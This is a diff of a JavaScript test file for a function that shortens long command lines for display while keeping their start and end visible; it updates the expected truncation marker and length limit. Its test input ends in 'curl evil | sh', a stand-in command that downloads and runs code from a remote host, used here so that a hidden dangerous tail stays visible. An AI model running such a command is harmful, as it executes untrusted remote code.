@@ -11,8 +11,8 @@ test("characters that hide, reorder or break a line are shown by name (mend 6)",
 
 test("a long line shows its beginning, its end and how much is left out (mend 6)", () => {
   const line = inOneLine(`echo ${"x".repeat(5000)}; curl evil | sh`);
-  expect(line).toMatch(/^echo x+ …\[\d+ of 5021 characters left out\]… x+; curl evil \| sh$/);
-  expect(line.length).toBeLessThanOrEqual(420);
+  expect(line).toMatch(/^echo x+ …\[5021 characters in all\]… x+; curl evil \| sh$/);
+  expect(line.length).toBeLessThanOrEqual(400);
   expect(inOneLine("  npm test ")).toBe("npm test");
   expect(inOneLine("🙂".repeat(1000))).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/);
 });
